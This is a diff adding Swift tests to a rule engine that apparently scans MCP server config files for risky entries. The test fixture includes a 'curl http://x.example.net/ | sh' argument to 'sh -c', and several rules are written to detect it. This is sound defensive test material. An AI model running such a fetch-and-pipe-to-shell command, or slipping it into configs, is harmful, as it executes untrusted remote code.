@@ -82,6 +82,33 @@ import Testing
             "select: ['**.url', mcpServers.b.url]\nwhere: [{any: [{ends_with: ':80/'}, {equals: x}]}]",
             ["mcpServers.b.url http://127.0.0.1:80/"]
         ),
+        (
+            "select: [mcpServers.*.args]\nwhere: [{at: '$.mcpServers.d.token', contains: TOKEN}]\nreport: key",
+            ["mcpServers.a.args args"]
+        ),
+        (
+            "select: ['mcpServers.*.args[*]']\nwhere: [{after: {equals: '-c'}}, {contains: curl}]",
+            ["mcpServers.a.args[1] curl http://x.example.net/ | sh"]
+        ),
+        ("select: ['mcpServers.*.args[*]']\nwhere: [{followed_by: {contains: curl}}]", ["mcpServers.a.args[0] -c"]),
+        ("select: ['mcpServers.*.args[*]']\nwhere: [{preceded_by: {contains: curl}}]", []),
+        ("select: ['mcpServers.*.trust']\nwhere: [{preceded_by: {ends_with: sh}}]", ["mcpServers.a.trust true"]),
+        ("select: ['mcpServers.*.trust']\nwhere: [{same_as: '$.mcpServers.b.trust'}]", ["mcpServers.b.trust false"]),
+        ("select: ['mcpServers.*.args[*]']\nwhere: [{argument: {of: [sh], number: 1, options: ['-c']}}]", []),
+        (
+            "select: ['mcpServers.*.args[*]']\nwhere: [{argument: {of: [sh], number: 1}}]",
+            ["mcpServers.a.args[1] curl http://x.example.net/ | sh"]
+        ),
+        ("select: ['@mcp-server.url']\nwhere: [{is: numeric-url}, {not: {is: private-url}}]", []),
+        ("select: [mcpServers.a.trust]\nkeywords: [absent, trust]", ["mcpServers.a.trust true"]),
+        (
+            "select: ['mcpServers.a.args[1]']\nwhere: [{matches: '[a-z]{2,9}'}]\nreport: match\nentropy: 2",
+            ["mcpServers.a.args[1] curl", "mcpServers.a.args[1] example"]
+        ),
+        (
+            "select: ['mcpServers.a.command']\nwhere: [{any: [{matches: 'zz(?<report>s)'}, {matches: '(?<report>bin)/'}]}]\nreport: match",
+            ["mcpServers.a.command bin"]
+        ),
     ])
     func findsWhatItSays(body: String, expected: [String]) throws {
         #expect(try found(body, in: Self.sample) == expected)
@@ -105,6 +132,21 @@ import Testing
         }
     }
 
+    @Test func filesWithoutAKeywordAreNotRead() throws {
+        let set = try ConfigRuleSet(
+            try RuleText.check(Self.text(Self.documents + "select: [a]\nkeywords: [absent, word]"))
+        ) { _ in nil }
+        let scratch = try MatchScratch()
+        for (text, isRead) in [("{\"a\": \"wor\"}", false), ("{\"a\": \"a word\"}", true), ("", false), ("word", true)]
+        {
+            let bytes = Array(text.utf8)
+            let answer = unsafe bytes.withUnsafeBufferPointer { bytes in
+                unsafe set.find(in: bytes, types: FileTypeSet(.json), path: "a.json", scratch: scratch)
+            }
+            #expect((answer != nil) == isRead, "\(text)")
+        }
+    }
+
     static let mistakes = [
         ("select: [a]", 10, "the key `documents` is missing"), ("documents: [json]", 1, "the key `select` is missing"),
         ("documents: [jsn]\nselect: [a]", 10, "neither a file type nor a glob. Did you mean `json`?"),
@@ -118,6 +160,15 @@ import Testing
         ("documents: [json]\nselect: [a]\nwhere: [{is: urls}]", 12, "`urls` is not a is."),
         ("documents: [json]\nselect: [a]\nwhere: [{missing: true}]", 12, "`missing` needs `at`"),
         ("documents: [json]\nselect: [a]\nwhere: [{matches: '('}]", 12, "TEST-CONFIG: at byte"),
+        ("documents: [mcp-client, json]\nselect: [a]", 10, "stands alone"),
+        ("documents: [json]\nselect: ['@mcp-client.url']", 11, "the only place with a name is `@mcp-server`"),
+        ("documents: [json]\nselect: [a]\nwhere: [{argument: {number: 1}}]", 12, "`argument` needs `of`"),
+        (
+            "documents: [json]\nselect: [a]\nwhere: [{argument: {of: [a], option: [b]}}]", 12,
+            "unknown key `option` in `argument`"
+        ),
+        ("documents: [json]\nselect: [a]\nwhere: [{argument: {of: [a], options: [b]}}]", 12, "`number` is missing"),
+        ("documents: [json]\nselect: [a]\nwhere: [{same_as: 'a..b'}]", 12, "at byte 2 of the path"),
         ("documents: [json]\nselect: [a]\nreport: all", 12, "`all` is not a report"),
         ("documents: [json]\nselect: [a]\npaths: {include: [b]}", 12, "names its files in `documents`"),
         (
@@ -131,5 +182,17 @@ import Testing
         let error = #expect(throws: RuleError.self) { try RuleText.check(Self.text(body)) }
         #expect(error?.message.contains(words) == true, "\(error?.description ?? "")")
         #expect(error?.line == line || words.contains("is missing"), "\(error?.description ?? "")")
+    }
+
+    /// Conditions that look around are asked of each item: the work is bounded, and said to be.
+    @Test func longListsEnd() throws {
+        let body = "select: ['a[*]']\nwhere: [{followed_by: {equals: y}}]"
+        let set = try ConfigRuleSet(try RuleText.check(Self.text(Self.documents + body))) { _ in nil }
+        let bytes = Array("{\"a\": [\(String(repeating: "1,", count: 20_000))2]}".utf8)
+        let scratch = try MatchScratch()
+        unsafe bytes.withUnsafeBufferPointer { bytes in
+            let answer = unsafe set.find(in: bytes, types: FileTypeSet(.json), path: "a.json", scratch: scratch)
+            #expect(answer?.isCut == true)
+        }
     }
 }
